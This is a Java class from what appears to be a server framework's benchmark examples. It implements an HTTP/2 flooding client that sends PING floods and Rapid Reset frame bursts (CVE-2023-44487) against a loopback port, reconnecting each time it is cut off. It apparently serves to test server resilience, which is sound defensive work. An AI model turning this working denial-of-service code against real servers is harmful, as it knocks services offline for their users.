package dev.ranvier.examples.bench.service;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicLong;

/// A client that speaks HTTP/2 by the letter (RFC 9113) and against its spirit: sends frames as
/// fast as the socket takes them, and connects again whenever it is thrown out.
final class Http2Attack implements AutoCloseable {
  private static final byte[] PREFACE =
      "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
  private static final int HEADERS = 1;
  private static final int RESET = 3;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int END_HEADERS = 4;
  private static final int BATCH = 100;

  private final int port;
  private final boolean resets;
  private final AtomicBoolean over = new AtomicBoolean();
  private final AtomicLong frames = new AtomicLong();
  private final AtomicLong connections = new AtomicLong();

  private Http2Attack(int port, boolean resets) {
    this.port = port;
    this.resets = resets;
  }

  /// PING frames and nothing else.
  static Http2Attack pings(int port) {
    return start(new Http2Attack(port, false));
  }

  /// Calls that are reset as soon as they are begun (CVE-2023-44487).
  static Http2Attack resets(int port) {
    return start(new Http2Attack(port, true));
  }

  private static Http2Attack start(Http2Attack attack) {
    var _ = Thread.ofPlatform().daemon().name("attack").start(attack::run);
    return attack;
  }

  /// Frames that were sent.
  long frames() {
    return frames.get();
  }

  /// How often it had to connect.
  long connections() {
    return connections.get();
  }

  @Override
  public void close() {
    over.set(true);
  }

  private void run() {
    while (!over.get()) {
      try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
        connections.incrementAndGet();
        attack(socket);
      } catch (IOException _) {
        // Thrown out: connects again.
      }
    }
  }

  private void attack(Socket socket) throws IOException {
    socket.getOutputStream().write(PREFACE);
    socket.getOutputStream().write(frame(SETTINGS, 0, 0, new byte[0]));
    InputStream answers = socket.getInputStream();
    byte[] thrownAway = new byte[1 << 16];
    for (int stream = 1; !over.get() && stream < Integer.MAX_VALUE - 2 * BATCH; ) {
      ByteArrayOutputStream batch = new ByteArrayOutputStream();
      for (int i = 0; i < BATCH; i++, stream += 2) {
        batch.write(
            resets
                ? frame(HEADERS, END_HEADERS, stream, headers())
                : frame(PING, 0, 0, new byte[8]));
        batch.write(resets ? frame(RESET, 0, stream, new byte[] {0, 0, 0, 8}) : new byte[0]);
      }
      socket.getOutputStream().write(batch.toByteArray());
      frames.addAndGet(resets ? 2 * BATCH : BATCH);
      while (answers.available() > 0) {
        if (answers.read(thrownAway) < 0) {
          return;
        }
      }
    }
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    return ByteBuffer.allocate(9 + payload.length)
        .put((byte) 0)
        .putShort((short) payload.length)
        .put((byte) type)
        .put((byte) flags)
        .putInt(stream)
        .put(payload)
        .array();
  }

  /// HPACK (RFC 7541): indexed fields and literals that are not kept.
  private static byte[] headers() {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.write(0x83); // :method POST
    block.write(0x86); // :scheme http
    literal(block, new byte[] {0x04}, "/ranvier.runtime.v1.Runtime/Hello"); // :path
    literal(block, new byte[] {0x01}, "localhost"); // :authority
    literal(block, new byte[] {0x0f, 0x10}, "application/grpc"); // content-type
    literal(block, new byte[] {0x00, 0x02, 't', 'e'}, "trailers");
    return block.toByteArray();
  }

  private static void literal(ByteArrayOutputStream block, byte[] name, String value) {
    block.writeBytes(name);
    block.write(value.length());
    block.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
  }
}
